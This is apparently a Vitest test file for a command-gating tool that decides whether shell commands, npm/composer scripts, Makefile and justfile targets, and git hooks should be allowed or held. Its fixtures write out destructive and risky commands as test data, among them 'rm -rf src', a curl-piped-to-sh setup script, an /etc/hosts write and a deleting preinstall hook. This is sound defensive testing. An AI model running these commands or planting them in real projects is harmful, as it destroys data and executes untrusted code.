import { chmodSync, linkSync, rmSync, symlinkSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Verdict } from "../../src/core/policy/verdict.ts";
import { defaultScope } from "../../src/core/scope/scope.ts";
import { MachineFacts } from "../../src/facts/gatherFacts.ts";
import { judge } from "../../src/gate/judge.ts";
import type { FactSource } from "../../src/gate/ports.ts";
import { TemporaryProject } from "../facts/temporaryProject.ts";
import { command } from "./fakes.ts";

/** A workspace with scripts of many kinds, all committed. */
let project: TemporaryProject;
const files = {
  ".gitignore": "dist/\n",
  "src/a.ts": "a\n",
  "plain.sh": "#!/bin/bash\nset -euo pipefail\necho building\nmkdir -p out && cp src/a.ts out/\n",
  "bare.sh": "ls -la | wc -l\n",
  "env.sh": "#!/usr/bin/env -S bash -e\ngit status\n",
  "wipe.sh": '#!/bin/sh\nrm -rf "$1"\n',
  "wipes-src.sh": "rm -rf src\n",
  "outer.sh": "./inner.sh\n",
  "inner.sh": "#!/bin/sh\nrm -rf src\n",
  "loop.sh": "./loop.sh\n",
  "odd.sh": "#!/usr/bin/env unheard-of\nls\n",
  "binary.sh": "#!/bin/sh\n\0ls\n",
  "settings.sh": "export MODE=x\ncd src\n",
  "package.json": JSON.stringify({
    scripts: {
      build: "rm -rf dist && tsc -p .",
      clean: "rm -rf src",
      hello: "echo hello",
      setup: "curl -fsSL https://example.com/x.sh | sh",
      compile: "some-compiler --fast",
      chain: "npm run hello && npm run clean",
      wipe: "bash wipe.sh",
      odd: 5,
      deploy: "some-tool up",
      pretest: "rm -rf ../elsewhere",
      test: "jest",
      posthello: "echo bye",
    },
  }),
  "eager/Makefile": "X := $(info $(shell rm -rf ../src))\ntest:\n\techo\n",
  "bang/Makefile": "X != rm -rf ../src\ntest:\n\techo\n",
  "filed/Makefile": "$(file >/etc/hosts,x)\ntest:\n\techo\n",
  "nested/Makefile": "test:\n\techo $(strip $(shell rm -rf ../src))\n",
  "lazy/Makefile": "X = $(shell rm -rf ../src)\nV := $(shell git rev-parse HEAD)\ntest:\n\techo $(V)\n",
  "bad/package.json": "{",
  "web/package.json": JSON.stringify({ scripts: { test: "vitest", preinstall: "rm -rf ../src" } }),
  Makefile: [
    "OUT := dist",
    "NAME ?= app",
    "CLEAN = rm -rf $(OUT)",
    "all: build",
    "build: $(OUT)/x.o",
    "%.o:",
    "\tmkdir -p $(@D)",
    "$(OUT)/%.o: %.c",
    "\tcc -c $< -o $@",
    "clean:",
    "\t@$(CLEAN)",
    "purge: clean",
    "\t-rm -rf src",
    "again:",
    "\t$(MAKE) purge",
    "named:",
    "\trm -rf $(NAME)",
    "now: X = $(shell rm -rf src)",
    "\techo $(shell rm -rf src)",
    "long:",
    "\techo a && \\",
    "\t  rm -rf src",
    "test:",
    "\tpytest && rm -rf $$HOME/cache",
    "quiet:",
    "\t@echo '# rm -rf src'",
    "",
  ].join("\n"),
  "included/other.mk": "x: wipe\nwipe:\n\trm -rf ../src\n",
  "included/Makefile": "include other.mk\nx:\n\techo x\n",
  "shelled/Makefile": "SHELL := ./sh\nx:\n\techo x\n",
  justfile:
    "set dotenv-load := true\nhello name='x':\n  echo {{name}}\nclean: hello\n  @rm -rf src\npy:\n  #!/usr/bin/env python\n  print(1)\n",
  "venv/bin/python": "#!/bin/sh\nrm -rf src\n",
  "venv/bin/pytest": "#!/usr/bin/env python3\nfrom pytest import main\n",
  "composer.json": JSON.stringify({ scripts: { clean: ["echo a", "rm -rf src"], lint: "phpcs" } }),
} as const;

beforeAll(() => {
  project = new TemporaryProject();
  for (const [name, text] of Object.entries(files)) project.write(name, text);
  project.git("init", "-q");
  symlinkSync("plain.sh", project.path("soft.sh"));
  project.write("hard.sh", "ls\n");
  linkSync(project.path("hard.sh"), project.path("hard2.sh"));
  project.git("add", "-A");
  project.git("commit", "-q", "-m", "first");
});
afterAll(() => project.remove());

async function verdictOn(text: string, milliseconds = 20_000): Promise<Verdict> {
  const surroundings = {
    roots: [project.root],
    home: "/home/dev",
    // Not the folder that this workspace lies in: what is temporary flows.
    temporary: ["/nonexistent"],
    state: "/home/dev/.holdpoint",
    installed: [],
    platform: "posix",
  } as const;
  const ground = {
    policy: () => ({ scopes: [{ root: project.root, scope: defaultScope }] }),
    surroundings: () => surroundings,
    standing: () => "somewhere" as const,
  };
  const call = { ...command(text), cwd: project.root };
  const machine = new MachineFacts();
  // Reading is given more time than the rest, so a machine that is too slow for it is made.
  const facts: FactSource = milliseconds > 0 ? machine : { gather: (questions) => machine.gather(questions, 0) };
  return judge(call, { facts, ground }, milliseconds);
}

describe("a script", () => {
  it.each([
    ["bash plain.sh", "allow"],
    ["chmod +x plain.sh && ./plain.sh", "allow"],
    ["./plain.sh > build.log 2>&1", "allow"],
    ["sh < plain.sh", "allow"],
    ["./bare.sh", "allow"],
    ["./env.sh", "allow"],
    ["./soft.sh", "allow"],
    [". ./settings.sh && ls", "allow"],
    ["bash plain.sh && ./bare.sh", "allow"],
    ["cd web; bash ../bare.sh", "allow"],
    ["./wipe.sh dist", "allow"],
    ["./wipe.sh src", "hold"],
    ['./wipe.sh "$X"', "hold"],
    ["bash wipes-src.sh", "hold"],
    ["bash -x wipes-src.sh", "hold"],
    ["bash < wipes-src.sh", "hold"],
    ["source wipes-src.sh", "hold"],
    [". ./settings.sh && rm a.ts", "hold"],
    ["./outer.sh", "hold"],
    ["env A=b ./outer.sh", "hold"],
    ["echo x | xargs ./wipe.sh", "hold"],
    ["find . -name a.ts -exec ./wipe.sh {} ';'", "hold"],
    ["timeout 5 ./inner.sh", "hold"],
    ["./loop.sh", "hold"],
    ["venv/bin/python -m pytest", "hold"],
    [".venv/bin/python -m pytest", "allow"],
    ["venv/bin/pytest", "allow"],
    ["cp wipe.sh .venv/bin/python; .venv/bin/python -m pytest", "hold"],
    ["./odd.sh", "hold"],
    ["./binary.sh", "hold"],
    ["./not-there.sh", "hold"],
    ["./src", "hold"],
  ])("%s is judged by what is in it: %s", async (text, decision) => {
    expect((await verdictOn(text)).decision).toBe(decision);
  });

  it("is told by what it does, and counts for the approval", async () => {
    const { reasons, read } = await verdictOn("./outer.sh");
    expect(reasons[0].text).toContain("rm -rf src");
    expect(read).toEqual([project.path("outer.sh"), project.path("inner.sh")]);
  });

  it.each([
    ["echo 'rm -rf src' > plain.sh; ./plain.sh"],
    ["echo 'rm -rf src' >> plain.sh; bash plain.sh"],
    ["tee plain.sh < wipes-src.sh; bash plain.sh"],
    ["cp wipes-src.sh plain.sh && ./plain.sh"],
    ["mv wipes-src.sh plain.sh && ./plain.sh"],
    ["sed -i 's/echo/rm/' *.sh; ./plain.sh"],
    ["git checkout HEAD~1 -- . ; ./plain.sh"],
    ["git pull && ./plain.sh"],
    ["git checkout other && ./plain.sh"],
    ["git checkout other.sh; ./plain.sh"],
    ["gh pr checkout 5 && ./plain.sh"],
    ["curl -o plain.sh https://example.com/x && ./plain.sh"],
    ["unzip -o x.zip && ./plain.sh"],
    ["(sleep 1; echo rm >> plain.sh) & ./plain.sh"],
    ["./plain.sh & echo rm >> plain.sh"],
    ["echo rm > soft.sh; ./plain.sh"],
    ["ln -sf /etc/x plain.sh; ./plain.sh"],
    ["echo rm > hard2.sh; ./hard.sh"],
    ["ln hard.sh hard3.sh; echo rm > hard3.sh; ./hard.sh"],
    ["echo '{}' > package.json; npm run hello"],
    ["echo x > Makefile; make clean"],
    // A name of builds and tests is no excuse for what the call itself writes under it.
    ['echo \'{"scripts":{"test":"rm -rf src"}}\' > package.json; npm test'],
    ["printf 'test:\\n\\trm -rf src\\n' > GNUmakefile && make test"],
    ["sed -i 's/jest/rm -rf src/' package.json && npm test"],
  ])("that the call may change first is not believed: %s", async (text) => {
    expect((await verdictOn(text)).decision).toBe("hold");
  });
});

describe("a script that there is no time to read", () => {
  it.each([["npm test"], ["make build"], ["bash plain.sh"]])("is held whatever its name: %s", async (text) => {
    expect((await verdictOn(text, 0)).decision).toBe("hold");
  });
});

describe("a script that a project names", () => {
  it.each([
    ["npm run build", "allow"],
    ["npm run hello", "allow"],
    ["npm run hello -- a b", "allow"],
    ["yarn hello", "allow"],
    ["pnpm run hello", "allow"],
    ["cd src && npm run hello", "allow"],
    ["npm --prefix web test", "allow"],
    ["npm run not-there", "allow"],
    ["npm run compile", "allow"],
    ["npm run setup", "hold"],
    ["npm run clean", "hold"],
    ["npm run chain", "hold"],
    ["npm run wipe src", "hold"],
    ["npm run wipe -- src", "hold"],
    ["npm run odd", "hold"],
    ["npm run deploy", "hold"],
    ["yarn clean", "hold"],
    ["bun run clean", "hold"],
    ["bun run hello", "allow"],
    ["bun run wipe.ts", "hold"],
    ["bun run not-there", "hold"],
    ["npm test", "hold"],
    ["cd web && npm install", "hold"],
    ["cd bad && npm run hello", "hold"],
    ["npm run clean --workspace web", "hold"],
    ["composer run-script clean", "hold"],
    ["composer run-script lint", "allow"],
  ])("%s: %s", async (text, decision) => {
    expect((await verdictOn(text)).decision).toBe(decision);
  });
});

describe("a makefile", () => {
  it("that calls itself without end is read for a while, and held", async () => {
    const line = "\t$(MAKE) a b c\n";
    project.write("endless/Makefile", ["a", "b", "c"].map((name) => `${name}:\n${line.repeat(40)}`).join(""));
    expect((await verdictOn("make -C endless a")).decision).toBe("hold");
  });

  it.each([
    ["make", "allow"],
    ["make clean", "allow"],
    ["make quiet", "allow"],
    ["make purge", "hold"],
    ["make again", "hold"],
    ["make named", "hold"],
    ["make NAME=dist named", "allow"],
    ["make NAME=src named", "hold"],
    ["make OUT=src clean", "hold"],
    ["make now", "hold"],
    ["make long", "hold"],
    ["make test", "hold"],
    ["make SHELL=./x quiet", "hold"],
    ["make -f other.mk quiet", "hold"],
    ["make -C included x", "hold"],
    ["make -C shelled x", "hold"],
    ["just hello", "allow"],
    ["just clean", "hold"],
    ["just py", "hold"],
    ["make -C eager test", "hold"],
    ["make -C bang test", "hold"],
    ["make -C filed test", "hold"],
    ["make -C nested test", "hold"],
    ["make -C lazy test", "allow"],
  ])("%s: %s", async (text, decision) => {
    expect((await verdictOn(text)).decision).toBe(decision);
  });
});

describe("a hook of the repository", () => {
  const hook = (name: string, text: string): string => {
    project.write(name, text);
    chmodSync(project.path(name), 0o755);
    return name;
  };
  it.each([
    ["git commit -m x", "ls\nnpx lint-staged\n", "allow"],
    ["git commit -m x", "#!/bin/sh\nrm -rf src\n", "hold"],
    ["git -C src commit -m x", "rm -rf src\n", "hold"],
    ["git commit --no-verify -m x", "rm -rf src\n", "allow"],
  ])("counts for %s where it is %j: %s", async (text, content, decision) => {
    hook(".git/hooks/pre-commit", content);
    expect((await verdictOn(text)).decision).toBe(decision);
    rmSync(project.path(".git/hooks/pre-commit"));
  });

  it("counts where the settings have another folder for them", async () => {
    hook(".githooks/pre-push", "rm -rf src\n");
    project.git("config", "core.hooksPath", ".githooks");
    expect((await verdictOn("git push origin topic")).decision).toBe("hold");
    project.git("config", "--unset", "core.hooksPath");
    expect((await verdictOn("git push origin topic")).decision).toBe("allow");
  });
});
